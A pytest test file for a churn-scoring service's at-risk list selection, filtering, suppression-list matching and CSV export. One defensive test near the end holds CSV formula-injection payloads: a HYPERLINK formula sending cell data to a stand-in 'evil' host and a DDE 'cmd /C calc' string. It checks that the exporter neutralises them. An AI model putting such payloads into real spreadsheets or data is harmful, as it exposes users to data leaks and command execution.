"""At-risk selection and CSV rendering on a hand-made scored frame."""

from __future__ import annotations

import numpy as np
import pandas as pd
import pytest

from serving.lists import (
    SCORE_COLUMNS,
    FilterError,
    at_risk_rows,
    excluded_note,
    filterable,
    match_suppression,
    read_ids,
    select_at_risk,
    to_csv,
    unmatched_filters,
)


@pytest.fixture
def scored():
    return pd.DataFrame(
        {
            "customer_id": ["a", "b", "c", "d", "e"],
            "probability": [0.9, 0.5, 0.8, 0.2, 0.8],
            "tier": ["high", "medium", "high", "low", "high"],
            "expected_spend": [10.0, 400.0, 100.0, 50.0, 100.0],
            "value_at_risk": [9.0, 200.0, 80.0, 10.0, 80.0],
            "country": ["UK", "France", "UK", None, "UK"],
            "frequency": [1.0, 2.0, 3.0, 4.0, 5.0],
        }
    )


def test_ranks_by_value_at_risk_ties_by_probability_then_id(scored):
    positions, matched = select_at_risk(scored, top=10)
    assert scored.customer_id.to_numpy()[positions].tolist() == ["b", "c", "e", "d", "a"]
    assert matched == 5


def test_top_cuts_after_counting(scored):
    positions, matched = select_at_risk(scored, top=2)
    assert positions.tolist() == [1, 2] and matched == 5


@pytest.mark.parametrize(
    ("kwargs", "expected"),
    [
        ({"min_value": 80.0}, ["b", "c", "e"]),
        ({"tiers": ["high"]}, ["c", "e", "a"]),
        ({"where": {"country": "UK"}}, ["c", "e", "a"]),
        ({"where": {"country": None}}, ["d"]),
        ({"where": {"frequency": 3}}, ["c"]),
        ({"where": {"frequency": "x"}}, []),
        ({"where": {"country": "UK"}, "min_value": 50, "tiers": ["high"]}, ["c", "e"]),
        # a list is any of its values; operators compare; every attribute's condition must hold
        ({"where": {"country": ["France", None]}}, ["b", "d"]),
        ({"where": {"country": {"!=": "UK"}}}, ["b", "d"]),  # a missing value is not 'UK'
        ({"where": {"country": {"!=": ["UK", None]}}}, ["b"]),
        ({"where": {"frequency": {">=": 2, "<": 5}}}, ["b", "c", "d"]),
        ({"where": {"frequency": {">": "3"}}}, ["e", "d"]),  # a number sent as text, as the CLI does
        ({"where": {"frequency": {"<=": 1.5}, "country": "UK"}}, ["a"]),
        ({"where": {"frequency": {"=": [1, 5], "!=": 5}}}, ["a"]),
        ({"where": {"tier": ["high", "low"], "frequency": {"<": 4}}}, ["c", "a"]),
        # a text value in another case is the value, as a tier is (it listed no one)
        ({"where": {"country": "uk"}}, ["c", "e", "a"]),
        ({"where": {"country": {"!=": ["uK", None]}}}, ["b"]),
        ({"where": {"country": ["FRANCE", "nowhere"]}}, ["b"]),
        # the list's own numbers: "value at risk between 50 and 100", "P(churn) at least 0.8"
        ({"where": {"value_at_risk": {">=": 50, "<=": 100}}}, ["c", "e"]),
        ({"where": {"probability": {">=": 0.8}, "expected_spend": {"<": 50}}}, ["a"]),
    ],
)
def test_filters(scored, kwargs, expected):
    positions, matched = select_at_risk(scored, top=10, **kwargs)
    assert scored.customer_id.to_numpy()[positions].tolist() == expected
    assert matched == len(expected)


def test_excluded_ids_are_never_listed_nor_counted(scored):
    positions, matched = select_at_risk(scored, top=2, exclude={"b", "zz"}, where={"country": "UK"})
    assert scored.customer_id.to_numpy()[positions].tolist() == ["c", "e"] and matched == 3
    positions, matched = select_at_risk(scored, top=10, exclude={"b", "c"})
    assert scored.customer_id.to_numpy()[positions].tolist() == ["e", "d", "a"] and matched == 3
    assert excluded_note(scored, "customer_id", {"b", "c", "zz"}) == (
        "excluded 2 customers of the population; 1 of the 3 ids to exclude is not in it: 'zz'"
    )
    assert excluded_note(scored, "customer_id", {"a"}) == "excluded 1 customer of the population"
    assert excluded_note(scored, "customer_id", None) is None
    assert excluded_note(scored, "customer_id", {"zz", "yy"}) == (
        "excluded 0 customers of the population; none of its 2 ids is in it: "
        "check that the file holds customer_id values of this data ('yy', 'zz')"
    )
    assert excluded_note(scored, "customer_id", set()).endswith(
        "; the suppression list holds no ids, so no one was left off (an export that failed?)"
    )


def test_a_suppression_list_leaves_off_ids_spelt_otherwise_and_names_them():
    """An opted-out lead or customer whose id the list spells otherwise (another case, a spreadsheet's
    leading zeros, thousands separator or exponent) was listed, the only trace a count of ids "not in
    it"; now it is left off and named, and the ids that match nothing are named too."""
    scored = pd.DataFrame(
        {
            "customer_id": ["L41099", "16000", "0042", "12346"],
            "probability": [0.9, 0.8, 0.7, 0.6],
            "tier": ["high"] * 4,
            "expected_spend": [10.0] * 4,
            "value_at_risk": [9.0, 8.0, 7.0, 6.0],
        }
    )
    given = {"l41099", "016000", "16,000", "1.6E+04", "42", "Customer", "12346"}
    suppression = match_suppression(scored, "customer_id", given)
    assert scored.customer_id[suppression.mask].tolist() == ["L41099", "16000", "0042", "12346"]
    assert dict(suppression.near) == {
        "016000": "16000",
        "1.6E+04": "16000",
        "16,000": "16000",
        "42": "0042",
        "l41099": "L41099",
    }
    assert list(suppression.missing) == ["Customer"] and suppression.unmatched
    assert suppression.note == (
        "excluded 4 customers of the population; 5 of its ids matched only as spelt otherwise, and were excluded: "
        "'016000' as '16000', '1.6E+04' as '16000', '16,000' as '16000', '42' as '0042', 'l41099' as 'L41099'; "
        "1 of the 7 ids to exclude is not in it: 'Customer'"
    )
    positions, _ = select_at_risk(scored, top=10, exclude=given)
    assert len(positions) == 0
    # Not loosened past that: another number, or the id inside longer text, is not the id.
    other = match_suppression(scored, "customer_id", {"16000.5", "L41099x", "160000"})
    assert not other.mask.any() and len(other.missing) == 3


@pytest.mark.parametrize(
    ("text", "ids"),
    [
        ("customer_id,reason\n12346,opted out\n 13047 ,\n\n", {"12346", "13047"}),
        ("email,customer_id\nx@y.z,12346.0\n", {"12346"}),  # a spreadsheet's number is the contract's id
        ("12346\n007\n", {"12346", "007"}),  # one id per line, no header; leading zeros kept
        ("\ufeffcustomer_id\n1\n", {"1"}),  # Excel's UTF-8 byte order mark
        ("", set()),
        # A spreadsheet's own exports (until 2026-12-07 the first two listed no one, silently).
        ("email;customer_id\nx@y.z;15749\nw@y.z;16000\n", {"15749", "16000"}),
        ("Customer ID\n15749\n16000\n", {"15749", "16000"}),
        ("CustomerID\tname\n15749\tX\n", {"15749"}),
        # A one-column file's header was read as an id ("1 of the 3 ids is not in it", every time).
        ("Customer\n15749\n16000\n", {"15749", "16000"}),
        ("ID\r\n15749\r\n", {"15749"}),
        ("Email;Customer ID\na@x.com;15749,0\n", {"15749"}),  # a decimal comma's whole number
    ],
)
def test_read_ids(tmp_path, text, ids):
    path = tmp_path / "exclude.csv"
    path.write_text(text, encoding="utf-8")
    assert read_ids(path, "customer_id") == ids


@pytest.mark.parametrize("encoding", ["cp1252", "utf-16"])
def test_read_ids_reads_excels_other_csv_encodings(tmp_path, encoding):
    """Excel's "CSV (Comma delimited)" on Windows writes Windows-1252, and its "Unicode text" UTF-16: an
    accented name beside the id made the file unreadable."""
    path = tmp_path / "exclude.csv"
    path.write_bytes("customer_id,name\r\n15749,Müller\r\n16000,Žofie\r\n".encode(encoding))
    assert read_ids(path, "customer_id") == {"15749", "16000"}


def test_read_ids_says_a_workbook_is_not_a_csv(tmp_path):
    import zipfile

    path = tmp_path / "optouts.csv"  # a workbook renamed, as a mail attachment may come
    with zipfile.ZipFile(path, "w") as book:  # an .xlsx is a zip of XML parts, as here
        book.writestr("[Content_Types].xml", "<Types/>")
        book.writestr("xl/worksheets/sheet1.xml", "<worksheet><c><v>15749</v></c></worksheet>")
    with pytest.raises(ValueError, match="an Excel workbook \\(.xlsx\\), not a CSV: save it as 'CSV UTF-8'"):
        read_ids(path, "customer_id")


@pytest.mark.parametrize(
    ("where", "listed", "respelt"),
    [
        # as a spreadsheet writes them: a float, a float's text, leading zeros, thousands, another case
        ({"customer_id": "12346.0"}, ["12346"], None),
        ({"customer_id": 12346.0}, ["12346"], None),
        ({"customer_id": [15749, "16000", 12346.0]}, ["16000", "12346"], None),
        ({"customer_id": "012346"}, ["12346"], "'012346' as '12346'"),
        ({"customer_id": ["12,346", "l41099"]}, ["L41099", "12346"], "'12,346' as '12346', 'l41099' as 'L41099'"),
        ({"customer_id": {"!=": ["1.6E+04", "L41099"]}}, ["12346"], "'1.6E+04' as '16000'"),
    ],
)
def test_the_id_in_where_matches_ids_as_a_suppression_list_does(where, listed, respelt):
    """`--where customer_id=12346.0` listed no one (and `012346`, `12,346`), and the API's 12346.0 was "not
    in the population", while `--exclude` and `exclude_ids` of the same ids left the customer off: the id
    attribute is matched as they match ids, and an id matched only as spelt otherwise is named."""
    scored = pd.DataFrame(
        {
            "customer_id": ["L41099", "16000", "12346"],
            "probability": [0.9, 0.8, 0.7],
            "tier": ["high"] * 3,
            "expected_spend": [10.0] * 3,
            "value_at_risk": [9.0, 8.0, 7.0],
        }
    )
    positions, matched = select_at_risk(scored, top=10, where=where)
    assert scored.customer_id.to_numpy()[positions].tolist() == listed and matched == len(listed)
    warnings = unmatched_filters(scored, where)
    said = [w for w in warnings if "spelt otherwise" in w]
    if respelt is None:
        assert not said
    else:
        assert said == [
            f"where.customer_id: {respelt.count(' as '):,} of its ids matched only as spelt otherwise, and were "
            f"taken as the data spells them: {respelt}"
        ]
    # 15749 is in no row: said as before, as text, the id's type
    assert any("has customer_id '15749'" in w for w in warnings) == ("15749" in str(where))


def test_the_note_of_ids_sent_names_no_file(scored):
    """The API's `exclude_ids` warning said "check that the file holds" to a caller who sent no file."""
    assert match_suppression(scored, "customer_id", {"zz"}, "the ids sent").note.endswith(
        "check that the ids sent are customer_id values of this data ('zz')"
    )


def test_read_ids_refuses_a_file_it_cannot_read_as_ids(tmp_path):
    path = tmp_path / "exclude.csv"
    path.write_text("email,name\nx@y.z,X\n")
    with pytest.raises(ValueError, match="needs one named 'customer_id' \\(the ids\\); it has 'email', 'name'"):
        read_ids(path, "customer_id")
    with pytest.raises(ValueError, match="cannot read it"):
        read_ids(tmp_path / "missing.csv", "customer_id")


def test_per_keeps_the_top_of_each_value_in_the_order_of_the_whole_list(scored):
    # by value at risk: b (France), c, e, a (UK), d (missing: a group of its own)
    positions, matched = select_at_risk(scored, top=1, per="country")
    assert scored.customer_id.to_numpy()[positions].tolist() == ["b", "c", "d"] and matched == 5
    positions, _ = select_at_risk(scored, top=2, per="tier", where={"country": "UK"})
    assert scored.customer_id.to_numpy()[positions].tolist() == ["c", "e"]
    with pytest.raises(FilterError) as err:
        select_at_risk(scored, top=1, per="value_at_risk")
    assert err.value.field == "per" and "filterable: country" in str(err.value)
    # A measure is not a group: one list entry per value of recency_days was 4,130 groups of one.
    spread = scored.assign(frequency=np.arange(5) + 0.5)
    assert len(select_at_risk(spread, top=1, per="frequency")[0]) == 5  # few values: groups still
    with pytest.raises(FilterError, match="per: days is a number with 101 values") as err:
        many = pd.concat([scored] * 21, ignore_index=True).iloc[:101].assign(days=np.arange(101.0))
        select_at_risk(many.assign(customer_id=[str(i) for i in range(101)]), top=1, per="days")


def test_min_value_above_one_for_a_list_ranked_by_probability_is_refused(scored):
    """`top lead --min-value 50` listed no one without a word: a probability is at most 1."""
    with pytest.raises(
        FilterError, match="min_value: the list ranks by a probability, at most 1; 50 would list no one"
    ):
        select_at_risk(scored, top=1, min_value=50, rank="probability")
    assert select_at_risk(scored, top=1, min_value=50)[1] == 3  # values at risk of 50 or more: b, c, e


def test_a_min_value_above_every_row_and_an_empty_tier_say_why_the_list_is_empty(scored):
    """`--min-value 5000` above every customer wrote "the top 0 of 0" and the API answered `warnings: []`,
    where `where: {"value_at_risk": {">=": 5000}}` said the range there is; a tier no one is in was as
    silent. Both are said as the where filters are; a bound some row reaches, or a held tier, is not."""
    tier_names = ["high", "medium", "low"]
    said = unmatched_filters(scored, None, tier_names, min_value=5000, rank="value_at_risk", tiers=["High"])
    assert said == [
        "min_value: no customer in the population has value_at_risk >= 5000 (value_at_risk runs from 9 to 200)"
    ]
    assert select_at_risk(scored, top=10, min_value=5000)[1] == 0
    assert unmatched_filters(scored, None, tier_names, min_value=200, rank="value_at_risk") == []
    no_high = scored[scored.tier != "high"]
    assert unmatched_filters(no_high, None, tier_names, rank="value_at_risk", tiers=["HIGH", "low"]) == [
        "tiers: no customer in the population is in tier 'HIGH' (tiers there: medium 1, low 1)"
    ]
    leads = scored.rename(columns={"customer_id": "lead_id", "tier": "grade"}).assign(grade=["A", "B", "A", "C", "A"])
    assert unmatched_filters(leads, None, ["A", "B", "C", "D"], min_value=0.95, rank="probability", tiers=["d"]) == [
        "min_value: no lead in the population has probability >= 0.95 (probability runs from 0.2 to 0.9)",
        "tiers: no lead in the population is in grade 'd' (grades there: A 3, B 1, C 1)",
    ]


def test_filterable_names_the_tiers_the_text_attributes_with_their_values_and_the_numbers(scored):
    scored = scored.assign(segment=["x", "y", "y", None, "y"])
    assert filterable(scored, SCORE_COLUMNS, ["high", "medium", "low"]) == {
        "tiers": ["high", "medium", "low"],
        "attributes": {"country": ["UK", "France"], "segment": ["y", "x"]},  # commonest first
        "numbers": ["probability", "expected_spend", "value_at_risk", "frequency"],  # the scores first
    }
    assert filterable(scored, SCORE_COLUMNS, ["high"], max_values=1)["attributes"]["segment"] == ["y"]


def test_unknown_attribute_names_the_field(scored):
    with pytest.raises(FilterError) as err:
        select_at_risk(scored, top=1, where={"segment": "x"})
    assert err.value.field == "where.segment" and "country" in str(err.value)
    assert "did you mean" not in str(err.value)
    # A spreadsheet's header (`Country`) was refused without a word of `country`.
    for name, field in (("Country", "where.Country"), ("contry", "where.contry")):
        with pytest.raises(FilterError, match=f"{field}: unknown customer attribute \\(did you mean 'country'\\?\\)"):
            select_at_risk(scored, top=1, where={name: "UK"})
    with pytest.raises(FilterError, match="per: unknown customer attribute \\(did you mean 'country'\\?\\)"):
        select_at_risk(scored, top=1, per="COUNTRY")


def test_missing_values_fail_every_comparison(scored):
    scored.loc[0, "frequency"] = np.nan
    for op in (">", ">=", "<", "<="):
        positions, _ = select_at_risk(scored, top=10, where={"frequency": {op: 3}})
        assert 0 not in positions.tolist()
    positions, _ = select_at_risk(scored, top=10, where={"frequency": {"!=": 3}})
    assert 0 in positions.tolist()  # "not 3" keeps the missing value, as "= None" finds it


@pytest.mark.parametrize(
    ("where", "message"),
    [
        ({"country": {">=": 3}}, "where.country: '>=' compares numbers and country is text"),
        ({"frequency": {">=": "many"}}, "where.frequency: '>=' compares with one number, got 'many'"),
        ({"frequency": {"<": [1, 2]}}, "where.frequency: '<' compares with one number, got [1, 2]"),
        ({"frequency": {"<": None}}, "where.frequency: '<' compares with one number, got None"),
        ({"frequency": {"~": 3}}, "where.frequency: unknown operator '~'; one of =, !=, >, >=, <, <="),
        ({"country": []}, "where.country: an empty list of values for '='; give at least one"),
        ({"frequency": {}}, "where.frequency: no condition"),
    ],
)
def test_a_condition_that_cannot_be_applied_names_the_attribute_and_the_rule(scored, where, message):
    with pytest.raises(FilterError) as err:
        select_at_risk(scored, top=1, where=where)
    assert err.value.field == f"where.{next(iter(where))}" and str(err.value).startswith(message)


def test_unknown_tier_is_an_error_not_an_empty_list(scored):
    names = ["high", "medium", "low"]
    # "low" is a tier of the model even when no customer holds it after the other filters.
    positions, _ = select_at_risk(scored, top=5, tiers=["low"], tier_names=names, where={"country": "UK"})
    assert positions.tolist() == []
    with pytest.raises(FilterError) as err:
        select_at_risk(scored, top=5, tiers=["high", "urgent"], tier_names=names)
    assert err.value.field == "tiers" and "'urgent'" in str(err.value) and "['high', 'medium', 'low']" in str(err.value)
    # The model's tier names whatever their case: "High" was an unknown tier.
    same = select_at_risk(scored, top=5, tiers=["High"], tier_names=names)[0]
    assert same.tolist() == select_at_risk(scored, top=5, tiers=["high"], tier_names=names)[0].tolist() != []


def test_a_filter_value_no_customer_has_is_named_with_the_closest_values(scored):
    """A typo would otherwise be an empty list and nothing else; filters that match someone, or a
    value absent only after the other filters, say nothing."""
    where = {"country": "Frnace", "frequency": 9, "tier": "high"}
    assert select_at_risk(scored, top=10, where={"country": "Frnace"})[1] == 0  # still an empty list
    assert unmatched_filters(scored, where) == [
        "where.country: no customer in the population has country 'Frnace' (closest: 'France')",
        "where.frequency: no customer in the population has frequency 9 (5 values, e.g. '1.0', '2.0', '3.0', "
        "'4.0', '5.0')",
    ]
    assert unmatched_filters(scored, {"country": "France", "frequency": 2, "tier": "low", "nothing": None}) == []
    # each value of a list is checked; a condition that matches no one gives the values there are
    assert unmatched_filters(
        scored, {"country": ["France", "Frnce"], "frequency": {">": 5}, "tier": {"!=": ["high", "medium", "low"]}}
    ) == [
        "where.country: no customer in the population has country 'Frnce' (closest: 'France')",
        "where.frequency: no customer in the population has frequency > 5 (frequency runs from 1 to 5)",
        "where.tier: no customer in the population has tier not 'high' or 'medium' or 'low' (3 values, e.g. "
        "'high', 'low', 'medium')",
    ]
    assert unmatched_filters(scored, {"frequency": {">=": 2, "<": 3}}) == []
    assert unmatched_filters(scored, None) == []
    # A value in another case is the value (as a tier is): it listed no one, the warning naming the value meant.
    assert unmatched_filters(scored, {"country": ["france", "uk"]}) == []
    # Several values in one text: how to give them.
    assert unmatched_filters(scored, {"country": "France,uk"}) == [
        "where.country: no customer in the population has country 'France,uk' (closest: 'France'); for several "
        "values, repeat the filter (--where country=France --where country=uk) or post a list (['France', 'uk'])"
    ]


def test_missing_value_at_risk_is_never_listed(scored):
    scored.loc[1, "value_at_risk"] = np.nan
    positions, _ = select_at_risk(scored, top=10)
    assert 1 not in positions.tolist()


def test_rows_and_csv(scored):
    positions, _ = select_at_risk(scored, top=2)
    reasons = [[{"text": "spent a lot", "feature": "m", "value": 1.0, "impact": 0.5}], []]
    counter = [[], [{"text": "bought yesterday", "feature": "r", "value": 1.0, "impact": -0.9}]]
    rows = at_risk_rows(scored, positions, reasons=reasons, counter_reasons=counter, attributes=["country"])
    assert rows[0] == {
        "customer_id": "b",
        "probability": 0.5,
        "tier": "medium",
        "expected_spend": 400.0,
        "value_at_risk": 200.0,
        "reasons": reasons[0],
        "counter_reasons": [],
        "attributes": {"country": "France"},
    }
    assert to_csv(rows, k=2) == (
        "customer_id,probability,tier,expected_spend,value_at_risk,country,reason_1,reason_2\n"
        "b,0.5000,medium,400.00,200.00,France,spent a lot,\n"
        "c,0.8000,high,100.00,80.00,UK,,\n"
    )
    assert to_csv(rows, k=1, counter_k=1).splitlines()[1:] == [
        "b,0.5000,medium,400.00,200.00,France,spent a lot,",
        "c,0.8000,high,100.00,80.00,UK,,bought yesterday",
    ]


def test_the_csvs_fast_truncation_is_the_exact_one():
    """The CSV's figures take the float's floor where it is far from a step and the exact decimal path near
    one (0.29 is 0.28999999999999998): the same text as the exact path for every value, random or at a step."""
    from decimal import ROUND_FLOOR, Decimal

    from serving.lists import _cell

    rng = np.random.default_rng(7)
    values = [*rng.random(5000), *(rng.random(5000) * 5000), -0.123, 0.29, 0.7, 0.69997, 4758.887, 2.675, 1e-12, 0.0]
    for value in values:
        for column, decimals in (("probability", 4), ("value_at_risk", 2)):
            exact = Decimal(repr(float(value))).quantize(Decimal(1).scaleb(-decimals), rounding=ROUND_FLOOR)
            assert _cell(column, float(value)) == f"{exact:.{decimals}f}", (column, value)


def test_csv_truncates_for_reading_and_keeps_the_order():
    """Probabilities to 4 decimals, money to 2, truncated: rounded, a customer at 0.69997 (tier medium)
    showed 0.7000, where high starts, and a value at risk of 4758.887 showed 4758.89, which
    `--min-value 4758.89` leaves out; the rows stay in the order given (by value at risk)."""
    rows = [
        {
            "customer_id": "14646",
            "probability": 0.06905433761589648,
            "tier": "low",
            "expected_spend": 68915.1008219178,
            "value_at_risk": 4758.886638990257,
            "reasons": [],
            "counter_reasons": [],
        },
        {
            "customer_id": "15749",
            "probability": 0.8664160130970698,
            "tier": "high",
            "expected_spend": 5310.22191780822,
            "value_at_risk": 4758.884,
            "reasons": [],
            "counter_reasons": [],
        },
        {"customer_id": "x", "probability": 0.5, "tier": "medium", "expected_spend": None, "value_at_risk": None},
    ]
    cusp = {"customer_id": "y", "probability": 0.69997, "tier": "medium", "expected_spend": 0.29, "value_at_risk": 0.2}
    assert to_csv([*rows, cusp], k=0).splitlines()[1:] == [
        "14646,0.0690,low,68915.10,4758.88",
        "15749,0.8664,high,5310.22,4758.88",
        "x,0.5000,medium,,",
        "y,0.6999,medium,0.29,0.20",  # 0.29 is 0.28999... in binary: truncated through its text, not its bits
    ]
    # Numeric attributes (a where or per on them) to at most 4 decimals, without trailing zeros.
    rows[0]["attributes"] = {"age": 41.0, "recency_days": 1.0263888888, "country": "UK"}
    rows[1]["attributes"] = {"age": None, "recency_days": 123456.5}
    assert to_csv(rows[:2], k=0).splitlines() == [
        "customer_id,probability,tier,expected_spend,value_at_risk,age,country,recency_days",
        "14646,0.0690,low,68915.10,4758.88,41,UK,1.0264",
        "15749,0.8664,high,5310.22,4758.88,,,123456.5",
    ]


def test_a_long_list_of_values_filters_in_one_pass_and_its_absent_values_are_counted(scored):
    """A segment of ids to list from: 200,000 values kept a worker busy for minutes (a pass over the
    population per value), and each absent one was a sentence (a 33 KB CSV warnings header)."""
    segment = ["c", "e", *(f"x{i}" for i in range(20_000)), None]
    listed, matched = select_at_risk(scored, top=10, where={"customer_id": segment})[:2]
    assert matched == 2 and sorted(scored["customer_id"].iloc[listed]) == ["c", "e"]
    # None is a value too (missing): a number column compares numbers, "3" and 3.0 alike.
    assert select_at_risk(scored, top=10, where={"country": [None, "France"]})[1] == 2
    assert select_at_risk(scored, top=10, where={"frequency": ["3", 4, "four"]})[1] == 2
    warnings = unmatched_filters(scored, {"customer_id": segment})
    assert len(warnings) == 6 and warnings[0].startswith("where.customer_id: no customer in the population has ")
    assert warnings[-1] == (
        "where.customer_id: 19,995 more of its values are not in the population (20,000 of 20,003 in all)"
    )


def test_a_tier_in_where_matches_whatever_its_case_as_tiers_does(scored):
    """``where: {"tier": "HIGH"}`` matched no one (with a warning), where ``tiers: ["High"]`` listed the tier."""
    names = ["high", "medium", "low"]
    by_where = select_at_risk(scored, top=5, where={"tier": ["HIGH", "Low"]}, tier_names=names)
    by_tiers = select_at_risk(scored, top=5, tiers=["High", "LOW"], tier_names=names)
    assert by_where[1] == by_tiers[1] == 4 and by_where[0].tolist() == by_tiers[0].tolist()
    assert select_at_risk(scored, top=5, where={"tier": {"!=": "HIGH"}}, tier_names=names)[1] == 2
    assert unmatched_filters(scored, {"tier": "HIGH"}, names) == []
    assert unmatched_filters(scored, {"tier": "urgent"}, names) == [
        "where.tier: no customer in the population has tier 'urgent' (3 values, e.g. 'high', 'low', 'medium')"
    ]


def test_a_value_spelt_in_several_cases_in_the_data_matches_each_spelling(scored):
    scored.loc[1, "country"] = "UK"
    scored.loc[0, "country"] = "uk"  # two systems' spellings in one table
    positions, matched = select_at_risk(scored, top=10, where={"country": "Uk"})
    assert scored.customer_id.to_numpy()[positions].tolist() == ["b", "c", "e", "a"] and matched == 4
    positions, _ = select_at_risk(scored, top=10, where={"country": "uk"})  # an exact value is itself alone
    assert scored.customer_id.to_numpy()[positions].tolist() == ["a"]


def test_a_since_before_the_data_says_the_population_was_empty_then():
    """An integrator's `since` of 2005-01-01 read "3 were not in the population then", as if those three had
    joined since; nobody was in it."""
    from serving.lists import with_scores_then

    rows = [
        {"customer_id": "a", "probability": 0.8, "tier": "high"},
        {"customer_id": "b", "probability": 0.2, "tier": "low"},
    ]
    note = with_scores_then(rows, None, tier_names=["high", "medium", "low"], since="2005-01-01", rule="a purchase")
    assert note == (
        "since 2005-01-01: the population was empty then (a purchase), so none of the 2 listed has a score to compare "
        "with (is the date before the data?)"
    )
    assert [(r["probability_then"], r["tier_then"]) for r in rows] == [(None, None), (None, None)]


def test_the_since_note_counts_one_row_in_the_singular():
    """The note read "1 were not in the population then"."""
    from serving.lists import with_scores_then

    rows = [
        {"customer_id": "a", "probability": 0.8, "tier": "high"},
        {"customer_id": "b", "probability": 0.2, "tier": "low"},
    ]
    then = pd.DataFrame({"customer_id": ["a"], "probability": [0.5], "tier": ["medium"]})
    note = with_scores_then(rows, then, tier_names=["high", "medium", "low"], since="2011-11-09")
    assert note == "since 2011-11-09: 1 of the 2 listed moved up a tier, 0 down, 1 was not in the population then"


def test_the_since_note_says_how_far_the_season_alone_moves_each_tier_threshold():
    """A marketer's weekly "newly at risk" list (2011-11-09 to 2011-12-09) held customers whose every
    reason said nothing raised their risk: the model's seasonal correction had moved them (log-odds +0.17
    to +0.48), and the list did not say so. The note now gives, per tier threshold, the probability then
    that the season alone carries to it now; a model without a seasonal table says nothing of it."""
    from types import SimpleNamespace

    from serving.lists import seasonal_move

    corrections = {"2011-11-09": (1.0, 0.0), "2011-12-09": (1.0, 0.3)}
    calibrator = SimpleNamespace(seasonal_intercepts={"2010-12-09": 0.3}, correction_at=corrections.__getitem__)
    scorer = SimpleNamespace(calibrator=calibrator, tiers=[("high", 0.7), ("medium", 0.4), ("low", 0.0)])
    assert seasonal_move(scorer, "2011-11-09", "2011-12-09") == (
        "features unchanged, the model's seasonal correction alone turns a probability of 0.63 then into 0.70 "
        "(high) now and 0.33 into 0.40 (medium): a row near a threshold may have moved by the season, not by "
        "what the customer did"
    )
    assert seasonal_move(scorer, "2011-11-09", "2011-11-09") == ""  # no move
    assert seasonal_move(SimpleNamespace(calibrator=SimpleNamespace(), tiers=scorer.tiers), "x", "y") == ""


def test_a_list_gives_only_the_reasons_that_move_the_probability_by_a_point():
    """An auditor: half the reasons of the bundled at-risk list moved P(churn) by less than a point (a
    customer at 0.06 read "0% of purchase days at weekends (raises churn risk)" for 0.0001)."""
    from types import SimpleNamespace

    from serving.lists import material, none_material, to_csv

    reasons = [
        {"text": "a (raises churn risk)", "impact": 0.5, "probability_change": 0.08},
        {"text": "b (raises churn risk)", "impact": 0.05, "probability_change": 0.01},
        {"text": "c (raises churn risk)", "impact": 0.01, "probability_change": 0.0009},
    ]
    assert [r["text"] for r in material(reasons)] == ["a (raises churn risk)", "b (raises churn risk)"]
    assert material([{"text": "old", "impact": 0.01}]) == [{"text": "old", "impact": 0.01}]  # no change known
    assert material([{"text": "d", "impact": -0.01, "probability_change": -0.002}]) == []
    writer = SimpleNamespace(direction="raises churn risk", counter_label=lambda: "lowers churn risk")
    said = none_material(SimpleNamespace(reasons=writer))
    assert said == ("No reason raises churn risk by 1 point or more", "No reason lowers churn risk by 1 point or more")
    rows = [{"customer_id": "a", "reasons": [], "counter_reasons": material(reasons[:1]), "attributes": {}}]
    text = to_csv(rows, k=2, counter_k=1, columns=("customer_id",), none_said=said)
    assert text.splitlines()[1] == "a,No reason raises churn risk by 1 point or more,,a (raises churn risk)"


def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text():
    """A security review (2026-12-07): ids and attributes come from the CRM's data, where anyone may have
    typed `=HYPERLINK(...)` or `@SUM(...)`; the list's CSV handed them to the spreadsheet as formulas."""
    rows = [
        {
            "customer_id": '=HYPERLINK("http://evil/?"&A1,"click")',
            "probability": 0.5,
            "tier": "high",
            "expected_spend": -12.5,
            "value_at_risk": 1.0,
            "attributes": {"country": "@SUM(1+1)*cmd|' /C calc'!A0", "note": "-5", "code": "+x", "plain": "UK"},
        }
    ]
    header, line = to_csv(rows, k=0, attributes=["code", "country", "note", "plain", "=cmd"]).splitlines()
    assert header.endswith(",value_at_risk,'=cmd,code,country,note,plain")
    assert line == (
        '"\'=HYPERLINK(""http://evil/?""&A1,""click"")",0.5000,high,-12.50,1.00,,\'+x,'
        "'@SUM(1+1)*cmd|' /C calc'!A0,-5,UK"
    )


def test_every_field_of_a_list_item_says_what_it_means():
    """In /docs.json the at-risk item's probability, expected_spend and value_at_risk had empty descriptions,
    and expected_spend means another thing in each list: every field says what it is, the money fields
    the currency, and the two expected_spend which spend they are."""
    from serving.schemas import AtRiskItem, TopItem

    at_risk, top = (item.model_json_schema()["properties"] for item in (AtRiskItem, TopItem))
    for fields_ in (at_risk, top):
        assert all(field.get("description") for field in fields_.values()), fields_
    for money in (at_risk["expected_spend"], at_risk["value_at_risk"], top["expected_spend"], top["expected_value"]):
        assert "in the source data's currency" in money["description"]
    assert "if they stayed" in at_risk["expected_spend"]["description"]
    assert "given that they buy" in top["expected_spend"]["description"]
    assert "horizon" in at_risk["probability"]["description"] and "horizon" in top["probability"]["description"]
